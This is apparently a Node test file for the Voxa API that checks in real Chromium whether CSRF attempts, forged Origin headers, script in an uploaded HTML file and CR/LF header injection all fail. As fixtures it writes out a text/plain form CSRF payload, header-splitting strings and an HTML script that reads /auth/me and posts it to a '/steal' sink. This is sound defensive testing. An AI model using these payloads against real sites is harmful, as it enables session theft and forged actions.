// Issue #11, findings 6 and 7 and the security headers of 11, in real Chromium:
//  - a page of the same site on another port (another origin) can neither read nor change
//    anything with the dashboard's session cookie, while API keys keep working from anywhere;
//  - an uploaded HTML file never runs on the dashboard's origin, and a part's Content-Type
//    with a bare CR or LF never splits a response header;
//  - the dashboard carries CSP / frame / referrer headers and still runs under them, and API
//    answers carry nosniff.
import assert from "node:assert/strict";
import { connect } from "node:net";
import { test } from "node:test";
import { browser, receiver, request, sleep, voxa } from "./lib.mjs";

const PASSWORD = "correct horse 42";
let users = 0;

/**
 * A dashboard user of v's org, invited with the org's private key (so this works whether or
 * not a fresh install's first registration needs a setup link). Returns {email}.
 */
async function dashboardUser(v, role = "admin") {
    const email = `user${++users}-${Date.now().toString(36)}@example.com`;
    const inv = await v.api("POST", "/org/invitation", { email, role });
    assert.equal(inv.status, 201, `POST /org/invitation: ${inv.text}`);
    const reg = await v.api("POST", "/auth/register", { email, password: PASSWORD, inviteToken: inv.json.token },
                            { token: null });
    assert.equal(reg.status, 201, `POST /auth/register: ${reg.text}`);
    return { email };
}

/** Signs `user` in from a page of Voxa's own origin: the browser keeps the session cookie. */
async function signIn(page, v, user) {
    await page.goto(v.base + "/health");
    const r = await page.evaluate(async ([email, password]) => {
        const res = await fetch("/auth/login", { method: "POST", headers: { "Content-Type": "application/json" },
                                                 body: JSON.stringify({ email, password }) });
        return { status: res.status, text: await res.text() };
    }, [user.email, PASSWORD]);
    assert.equal(r.status, 200, `sign-in from Voxa's own page: ${r.text}`);
    const cookie = (await page.context().cookies(v.base)).find((c) => c.name === "voxa_session");
    assert.ok(cookie, "the browser holds the session cookie");
    return cookie.value;
}

/** A loopback server on another port: same site as Voxa (127.0.0.1), another origin. */
function otherOrigin(t) {
    return receiver(t, (req, body, res) => {
        // Connection: close, so closing this server at the end need not wait for the browser.
        res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", Connection: "close" });
        res.end("<!doctype html><meta charset=utf-8><title>another origin</title><body><p>hello</p></body>");
    });
}

/** One raw HTTP/1.1 exchange (Connection: close): the response as latin1 text. */
function rawExchange(port, text) {
    return new Promise((resolve, reject) => {
        const s = connect(port, "127.0.0.1");
        const chunks = [];
        s.on("data", (d) => chunks.push(d));
        s.on("end", () => resolve(Buffer.concat(chunks).toString("latin1")));
        s.on("error", reject);
        s.setTimeout(10000, () => s.destroy(new Error("raw exchange timed out")));
        s.write(text);
    });
}

test("another origin of the same site can neither read nor change anything with the session cookie; keys still work from anywhere", async (t) => {
    const v = await voxa(t);
    const user = await dashboardUser(v);
    const evil = await otherOrigin(t);
    const { page } = await browser(t);
    const session = await signIn(page, v, user);

    // Control: Voxa's own page may change things with the cookie.
    const own = await page.evaluate(async () => {
        const r = await fetch("/token", { method: "POST", headers: { "Content-Type": "application/json" },
                                          body: JSON.stringify({ name: "own-page" }) });
        return r.status;
    });
    assert.equal(own, 201, "Voxa's own page mints a key with the cookie");

    await page.goto(evil.url + "/");
    // Reading with the cookie.
    const read = await page.evaluate(async (base) => {
        try {
            const r = await fetch(base + "/auth/me", { credentials: "include" });
            return { status: r.status, text: await r.text() };
        } catch (e) {
            return { error: String(e) };
        }
    }, v.base);
    const problems = [];  // gathered, so one run shows every hole
    if (!read.error) problems.push(`the other origin read /auth/me with the cookie: ${JSON.stringify(read).slice(0, 200)}`);

    // Changing with the cookie: JSON (preflighted), text/plain and type-less no-cors bodies,
    // and a text/plain form posted into a frame.
    const sent = await page.evaluate(async (base) => {
        const out = [];
        const attempts = {
            "csrf-json": { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" } },
            "csrf-text": { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" } },
            "csrf-blob": { method: "POST", mode: "no-cors", credentials: "include" },
        };
        for (const [name, init] of Object.entries(attempts)) {
            const body = JSON.stringify({ name });
            try {
                const r = await fetch(base + "/token", { ...init, body: name === "csrf-blob" ? new Blob([body]) : body });
                out.push(`${name}: ${r.type} ${r.status}`);
            } catch (e) {
                out.push(`${name}: ${e}`);
            }
        }
        await new Promise((resolve) => {
            const frame = document.createElement("iframe");
            frame.name = "sink";
            document.body.appendChild(frame);
            const form = document.createElement("form");
            Object.assign(form, { method: "POST", action: base + "/token", enctype: "text/plain", target: "sink" });
            const input = document.createElement("input");
            input.name = '{"name":"csrf-form","restrictions":{"a":"';
            input.value = '"}}';
            form.appendChild(input);
            document.body.appendChild(form);
            frame.onload = resolve;
            setTimeout(resolve, 5000);
            form.submit();
        });
        return out;
    }, v.base);

    const list = await request(v.base, "GET", "/token", undefined, { headers: { Cookie: `voxa_session=${session}` } });
    assert.equal(list.status, 200, list.text);
    const names = list.json.map((k) => k.name);
    assert.ok(names.includes("own-page"), `the session lists the keys (${names})`);
    for (const n of ["csrf-json", "csrf-text", "csrf-blob", "csrf-form"])
        if (names.includes(n)) problems.push(`a cross-origin request with the cookie minted key ${n}`);
    assert.deepEqual(problems, [], `what the page saw: ${sent.join("; ")}`);

    // Keys (bearer, no credentials) from the other origin keep working, including the browser
    // SDK's POST /call/web with the public key.
    const bearer = await page.evaluate(async ([base, key, publicKey]) => {
        const post = await fetch(base + "/assistant", {
            method: "POST", headers: { Authorization: `Bearer ${key}`, "Content-Type": "application/json" },
            body: JSON.stringify({ name: "made from another origin" }) });
        const list = await fetch(base + "/assistant?limit=5", { headers: { Authorization: `Bearer ${key}` } });
        const web = await fetch(base + "/call/web", {
            method: "POST", credentials: "omit",
            headers: { Authorization: `Bearer ${publicKey}`, "Content-Type": "application/json" },
            body: JSON.stringify({ assistant: { name: "sdk", transcriber: { provider: "local" },
                                                voice: { provider: "local", voiceId: "kal16" },
                                                model: { provider: "local", fallback: "hi" } } }) });
        const call = await web.json();
        return { post: post.status, list: list.status, names: (await list.json()).map((a) => a.name),
                 web: web.status, callId: call.id, ws: call.transport?.websocketCallUrl || call.webCallUrl || "" };
    }, [v.base, v.key, v.publicKey]);
    assert.equal(bearer.post, 201, JSON.stringify(bearer));
    assert.equal(bearer.list, 200, JSON.stringify(bearer));
    assert.ok(bearer.names.includes("made from another origin"), JSON.stringify(bearer));
    assert.equal(bearer.web, 201, JSON.stringify(bearer));
    assert.ok(bearer.ws, `POST /call/web answered a call URL: ${JSON.stringify(bearer)}`);
    await v.api("DELETE", `/call/${bearer.callId}`);
});

test("cookie changes need our own Origin, and JSON routes need a JSON body (raw requests)", async (t) => {
    const v = await voxa(t);
    const user = await dashboardUser(v);
    const login = await request(v.base, "POST", "/auth/login", { email: user.email, password: PASSWORD });
    assert.equal(login.status, 200, login.text);
    const cookie = /voxa_session=[^;]+/.exec(login.headers.get("set-cookie"))[0];
    assert.match(login.headers.get("set-cookie"), /HttpOnly/i);
    assert.match(login.headers.get("set-cookie"), /SameSite=(Strict|Lax)/i);
    const post = (headers, body = { name: "raw" }, contentType) =>
        request(v.base, "POST", "/token", typeof body === "string" ? body : JSON.stringify(body),
                { headers: { Cookie: cookie, ...headers }, contentType: contentType || "application/json" });

    for (const origin of ["http://127.0.0.1:1", "null", "https://evil.example"]) {
        const r = await post({ Origin: origin });
        assert.equal(r.status, 403, `Origin ${origin}: ${r.status} ${r.text}`);
        assert.equal(r.json?.statusCode, 403, r.text);
        assert.equal(r.json?.error, "Forbidden", r.text);
    }
    assert.equal((await post({ "Sec-Fetch-Site": "same-site" })).status, 403);
    assert.equal((await post({ Referer: "http://127.0.0.1:1/page" })).status, 403);
    assert.equal((await post({ Origin: v.base })).status, 201, "our own origin");
    const body = JSON.stringify({ name: "by-host" });
    const byHost = await rawExchange(v.port, `POST /token HTTP/1.1\r\nHost: localhost:${v.port}\r\n` +
        `Origin: http://localhost:${v.port}\r\nCookie: ${cookie}\r\nContent-Type: application/json\r\n` +
        `Content-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`);
    assert.match(byHost, /^HTTP\/1\.1 201/, `the page's own origin by its Host: ${byHost.slice(0, 300)}`);
    assert.equal((await post({})).status, 201, "not a browser (curl with a cookie jar)");

    // A key is not a cookie: any Origin may use it.
    const keyed = await request(v.base, "POST", "/token", { name: "keyed" }, { token: v.key, headers: { Origin: "https://evil.example" } });
    assert.equal(keyed.status, 201, keyed.text);

    // JSON routes refuse other body types (a page can send those without a preflight).
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]) {
        const r = await request(v.base, "POST", "/assistant", JSON.stringify({ name: "typed" }), { token: v.key, contentType: type });
        assert.equal(r.status, 415, `${type}: ${r.status} ${r.text}`);
        assert.equal(r.json?.error, "Unsupported Media Type", r.text);
    }
    const ok = await request(v.base, "POST", "/assistant", JSON.stringify({ name: "typed" }),
                             { token: v.key, contentType: "application/json; charset=utf-8" });
    assert.equal(ok.status, 201, ok.text);
});

test("an uploaded HTML file is a sandboxed download: its script never runs with the viewer's session", async (t) => {
    const v = await voxa(t);
    const user = await dashboardUser(v);
    const sink = await receiver(t);
    const html = `<!doctype html><title>original</title><script>
document.title = "pwned";
fetch("/auth/me").then((r) => r.text()).then((me) => fetch(${JSON.stringify(sink.url + "/steal")}, { method: "POST", mode: "no-cors", body: me }));
</script>`;
    const form = new FormData();
    form.append("file", new Blob([html], { type: "text/html" }), "page.html");
    const up = await fetch(v.base + "/file", { method: "POST", headers: { Authorization: `Bearer ${v.key}` }, body: form });
    const file = await up.json();
    assert.equal(up.status, 201, JSON.stringify(file));

    const { page } = await browser(t);
    await signIn(page, v, user);
    const downloads = [];
    page.on("download", (d) => downloads.push(d.suggestedFilename()));
    for (const open of [
        () => page.goto(`${v.base}/file/${file.id}/content`, { waitUntil: "load", timeout: 5000 }),
        // Framed by a page of Voxa's origin.
        () => page.evaluate((src) => new Promise((resolve) => {
            const f = document.createElement("iframe");
            f.src = src;
            f.onload = resolve;
            document.body.appendChild(f);
            setTimeout(resolve, 3000);
        }), `/file/${file.id}/content`),
    ]) {
        await page.goto(v.base + "/health");
        try {
            await open();
        } catch {}  // a download aborts the navigation
        await sleep(1500);
        const titles = await Promise.all(page.frames().map((f) => f.title().catch(() => "")));
        assert.ok(!titles.includes("pwned"), `the upload's script ran (frame titles: ${titles})`);
    }
    assert.equal(sink.requests.length, 0, `the upload's script sent the session's data out: ${sink.requests.map((r) => r.body).join(" | ")}`);
    assert.ok(downloads.length >= 1, "the browser treats the upload as a download");

    const got = await request(v.base, "GET", `/file/${file.id}/content`, undefined, { token: v.key });
    assert.equal(got.status, 200);
    assert.equal(got.text, html, "the bytes come back unchanged");
    assert.match(got.headers.get("content-disposition") || "", /^attachment; filename="page\.html"/);
    assert.equal(got.headers.get("x-content-type-options"), "nosniff");
    assert.match(got.headers.get("content-security-policy") || "", /(^|;)\s*sandbox\s*(;|$)/);
    assert.match(got.headers.get("content-security-policy") || "", /default-src 'none'/);
});

test("a part's Content-Type with a bare CR or LF never splits a response header", async (t) => {
    const v = await voxa(t);
    for (const [label, type] of [["CR", "text/html\rX-Injected: cr"], ["LF", "text/html\nX-Injected: lf"],
                                 ["NUL", "text/html\0X-Injected: nul"]]) {
        const boundary = "B0undary";
        const body = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="x.html"\r\n` +
                     `Content-Type: ${type}\r\n\r\n<b>hi</b>\r\n--${boundary}--\r\n`;
        const up = await request(v.base, "POST", "/file", body, { token: v.key, contentType: `multipart/form-data; boundary=${boundary}` });
        if (up.status !== 201) {
            assert.equal(up.status, 400, `${label}: ${up.text}`);
            continue;
        }
        const raw = await rawExchange(v.port, `GET /file/${up.json.id}/content HTTP/1.1\r\nHost: 127.0.0.1\r\n` +
                                              `Authorization: Bearer ${v.key}\r\nConnection: close\r\n\r\n`);
        const head = raw.slice(0, raw.indexOf("\r\n\r\n"));
        const lines = head.split(/\r\n|\r|\n/);
        assert.ok(!lines.some((l) => /^x-injected/i.test(l)), `${label}: split header in\n${JSON.stringify(head)}`);
        assert.ok(!/[\0\r\n]/.test(head.replace(/\r\n/g, "")), `${label}: a control inside a header: ${JSON.stringify(head)}`);
        assert.match(up.json.mimetype, /^[a-z0-9!#$&^_.+-]+\/[a-z0-9!#$&^_.+-]+$/, `${label}: stored mimetype ${JSON.stringify(up.json.mimetype)}`);
    }
    // A name with quotes, line breaks and non-ASCII comes back as a clean RFC 6266 attachment.
    const named = `--B\r\nContent-Disposition: form-data; name="file"; filename="r\u00e9sum\u00e9 \\"q\\".txt"\r\n` +
                  `Content-Type: text/plain\r\n\r\nx\r\n--B--\r\n`;
    const up = await request(v.base, "POST", "/file", named, { token: v.key, contentType: "multipart/form-data; boundary=B" });
    assert.equal(up.status, 201, up.text);
    assert.equal(up.json.name, 'r\u00e9sum\u00e9 "q".txt');
    const got = await request(v.base, "GET", `/file/${up.json.id}/content`, undefined, { token: v.key });
    assert.equal(got.headers.get("content-disposition"),
                 `attachment; filename="r__sum__ _q_.txt"; filename*=UTF-8''r%C3%A9sum%C3%A9%20%22q%22.txt`);
});

test("security headers: the dashboard has CSP, frame and referrer policies and runs under them; API answers are nosniff", async (t) => {
    const v = await voxa(t, { web: true });
    const page1 = await request(v.base, "GET", "/login/");
    assert.equal(page1.status, 200);
    assert.match(page1.headers.get("content-type"), /^text\/html/);
    const csp = page1.headers.get("content-security-policy") || "";
    assert.match(csp, /frame-ancestors 'none'/, `CSP: ${csp}`);
    assert.match(csp, /default-src 'self'/, `CSP: ${csp}`);
    assert.match(csp, /object-src 'none'/, `CSP: ${csp}`);
    assert.match(csp, /base-uri 'none'|base-uri 'self'/, `CSP: ${csp}`);
    assert.doesNotMatch(csp, /script-src[^;]*'unsafe-eval'/, `CSP: ${csp}`);
    assert.equal(page1.headers.get("x-frame-options"), "DENY");
    assert.match(page1.headers.get("referrer-policy") || "", /^(no-referrer|same-origin|strict-origin|strict-origin-when-cross-origin)$/);
    assert.equal(page1.headers.get("x-content-type-options"), "nosniff");

    for (const [what, r] of [["GET /assistant", await v.api("GET", "/assistant")],
                             ["401", await v.api("GET", "/assistant", undefined, { token: null })],
                             ["404", await v.api("GET", "/no/such/route")],
                             ["/health", await v.api("GET", "/health")]]) {
        assert.equal(r.headers.get("x-content-type-options"), "nosniff", `${what} (${r.status}) has no nosniff`);
    }

    // The dashboard in Chromium: every page renders with no CSP violation.
    const user = await dashboardUser(v);
    const { page, context } = await browser(t);
    await context.addInitScript(() => {
        window.__csp = [];
        document.addEventListener("securitypolicyviolation", (e) =>
            window.__csp.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
    });
    const errors = [];
    page.on("console", (m) => { if (m.type() === "error") errors.push(m.text()); });
    page.on("pageerror", (e) => errors.push(`pageerror: ${e.message}`));
    const violations = [];
    const collect = async (path) => violations.push(...(await page.evaluate(() => window.__csp || [])).map((x) => `${path}: ${x}`));

    await page.goto(v.base + "/login/");
    await page.fill("#email", user.email);
    await page.fill("#password", PASSWORD);
    await collect("/login/");
    await page.click('[data-testid="login-submit"]');
    await page.waitForURL((u) => u.pathname !== "/login/", { timeout: 15000 });
    for (const path of ["/assistants/", "/assistants/new/", "/calls/", "/insights/", "/tools/", "/squads/",
                        "/phone-numbers/", "/keys/", "/members/", "/settings/"]) {
        await page.goto(v.base + path, { waitUntil: "load" });
        await page.waitForLoadState("networkidle", { timeout: 5000 }).catch(() => {});
        // Under ASan on a busy machine the session check may outlast the network going idle.
        await page.waitForFunction(() => {
            const t = document.body.innerText.trim();
            return t.length > 20 && !t.includes("Loading your session");
        }, null, { timeout: 20000 }).catch(() => {});
        const text = await page.evaluate(() => document.body.innerText.trim());
        assert.ok(text.length > 20, `${path} rendered nothing: ${JSON.stringify(text)}`);
        assert.equal(new URL(page.url()).pathname, path, `${path} sent us to ${page.url()} (not signed in?)`);
        await collect(path);
    }
    // The web call's socket goes to our own origin: connect-src must allow ws: there.
    const ws = await page.evaluate((url) => new Promise((resolve) => {
        try {
            const s = new WebSocket(url);
            s.onopen = () => { s.close(); resolve("open"); };
            s.onerror = () => resolve("error");
            setTimeout(() => resolve("timeout"), 3000);
        } catch (e) {
            resolve(`threw ${e}`);
        }
    }), v.base.replace(/^http/, "ws") + "/no-such-socket");
    await collect("websocket");
    assert.ok(!String(ws).startsWith("threw"), `new WebSocket to our own origin: ${ws}`);
    assert.deepEqual(violations, [], "CSP violations");
    assert.deepEqual(errors.filter((e) => /Content Security Policy|Refused to/i.test(e)), [], `CSP console errors: ${errors.join(" | ")}`);
});
